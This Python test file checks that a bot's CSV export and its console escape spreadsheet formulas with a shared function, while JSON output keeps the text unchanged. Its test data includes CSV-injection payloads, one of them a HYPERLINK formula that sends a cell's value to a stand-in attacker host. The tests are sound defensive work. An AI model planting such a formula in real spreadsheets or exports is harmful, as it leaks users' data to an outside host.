"""`kotha export … --format csv` defuses formulas as the console's CSV does: one function."""

from __future__ import annotations

import csv
import io
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select

from bot import cli
from bot.cli import export
from bot.services import Services
from console import cases
from storage import exports
from storage.exports import csv_safe
from storage.models import Address, Contact, Feedback
from storage.records import create_feedback

# What someone could type to have a spreadsheet run it, with what a spreadsheet must show.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+SUM(1,2)",
    "@SUM(1,2)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


def store(services: Services, texts: list[str]) -> None:
    with services.database.session() as session:
        address = Address(
            contact=Contact(created_at=services.clock(), language="en"),
            channel="sms",
            address="+447700900444",
            created_at=services.clock(),
        )
        session.add(address)
        session.flush()
        for text in texts:
            create_feedback(
                session,
                address,
                "en",
                "comment",
                {"text": text, "desired_outcome": text},
                True,
                services.clock(),
                None,
            )
            session.flush()


def test_the_console_and_the_command_share_one_function() -> None:
    assert cases.csv_safe is exports.csv_safe is export.csv_safe


def test_formulas_come_out_as_text(
    services: Services, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    store(services, [*FORMULAS, "An ordinary comment", "1-2 hours late"])
    monkeypatch.setattr(export, "load_services", lambda **kwargs: services)
    assert cli.main(["export", "feedback", "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out, newline="")))
    texts = [row["text"] for row in rows]
    assert texts == [
        *("'" + formula for formula in FORMULAS),
        "An ordinary comment",
        "1-2 hours late",
    ]
    assert [row["desired_outcome"] for row in rows] == texts
    # JSON is data, not a spreadsheet: it keeps the text exactly as written.
    assert cli.main(["export", "feedback", "--format", "json"]) == 0
    assert [row["text"] for row in json.loads(capsys.readouterr().out)][:6] == FORMULAS
    with services.database.session() as session:
        assert session.scalars(select(Feedback.text)).all()[:6] == FORMULAS  # stored as written


@given(st.text())
def test_no_defused_cell_starts_a_formula_and_nothing_else_changes(text: str) -> None:
    cell = csv_safe(text)
    assert not cell.startswith(exports.FORMULA_STARTS)
    assert cell == text or cell == "'" + text
    assert (cell != text) == text.startswith(exports.FORMULA_STARTS)
    assert csv_safe(7) == 7 and csv_safe(None) is None
